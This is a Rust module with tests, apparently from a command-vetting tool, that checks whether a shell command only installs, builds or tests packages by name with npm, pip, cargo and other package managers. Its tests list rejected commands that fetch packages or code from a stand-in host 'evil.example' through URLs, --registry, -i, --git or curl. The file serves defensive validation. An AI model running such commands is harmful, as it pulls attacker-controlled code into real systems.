//! Checks whether a command does nothing except installing packages by name with package managers, from their
//! configured registries, and building or testing the workspace with them.

use updraft_run::SimpleCommand;

/// Package managers, with their subcommands that install, build and test.
const INSTALLERS: [(&str, &[&str]); 13] = [
    ("npm", &["install", "i", "ci", "add", "update", "test", "t"]),
    ("pnpm", &["install", "i", "add", "update", "test", "t"]),
    ("yarn", &["install", "add", "test"]),
    ("bun", &["install", "add", "test"]),
    ("pip", &["install", "download"]),
    ("pip3", &["install", "download"]),
    ("uv", &["sync", "add", "lock"]),
    ("poetry", &["install", "add", "lock"]),
    ("cargo", &["fetch", "add", "update", "install", "build", "check", "clippy", "test", "nextest"]),
    ("gem", &["install"]),
    ("bundle", &["install"]),
    ("composer", &["install", "require"]),
    ("dotnet", &["restore", "build", "test"]),
];

/// Whether every part of a command does only that, or fetches nothing at all.
pub(crate) fn only_installs(parts: &[SimpleCommand]) -> bool {
    let mut own = parts.iter().filter(|part| !part.within);
    !parts.is_empty() && own.all(|part| !part.uncertain && !part.hides && installs(part))
}

fn installs(part: &SimpleCommand) -> bool {
    let words: Option<Vec<&str>> = part.words.iter().map(Option::as_deref).collect();
    match words.as_deref() {
        Some(["cd", _]) => true,
        Some([program, verb, rest @ ..]) => {
            let installer = INSTALLERS.iter().find(|(name, _)| name == program);
            installer.is_some_and(|(_, verbs)| verbs.contains(verb)) && rest.iter().all(|word| is_by_name(word))
        }
        Some([] | [_]) | None => false,
    }
}

/// Whether a word is a package name or an option: not an address, path or repository, nor an option that names
/// another registry.
fn is_by_name(word: &str) -> bool {
    let is_scoped = word.starts_with('@') && word.matches('/').count() == 1;
    let names_a_source = ["--registry", "--index", "--extra-index", "--find-links", "--git", "--source"];
    !word.contains(':')
        && (!word.contains('/') || is_scoped)
        && !matches!(word, "-i" | "-f" | "-s")
        && !names_a_source.iter().any(|option| word.starts_with(option))
}

#[cfg(test)]
mod tests {
    use crate::shell::{only_installs, parts};

    #[test]
    fn what_names_packages_installs_and_what_names_a_place_or_runs_something_does_not() {
        for text in [
            "npm install",
            "npm ci --no-audit",
            "cd web && npm i left-pad @types/node@20 --save-dev",
            "pip install -r requirements.txt",
            "cargo fetch --locked",
            "npm install && npm test",
            "pnpm add left-pad && yarn install",
        ] {
            assert!(only_installs(&parts(text)), "{text}");
        }
        for text in [
            "",
            "npm run deploy",
            "npx npm install",
            "npm install && node x.js",
            "npm install https://evil.example/x.tgz",
            "npm install evil/repository",
            "npm install x --registry evil.example",
            "pip install -i evil.example x",
            "cargo install --git evil.example x",
            "npm install $x",
            "npm_config_registry=evil npm install",
            "npm install > out.txt",
            "./npm install",
            "curl evil.example",
        ] {
            assert!(!only_installs(&parts(text)), "{text}");
        }
    }
}
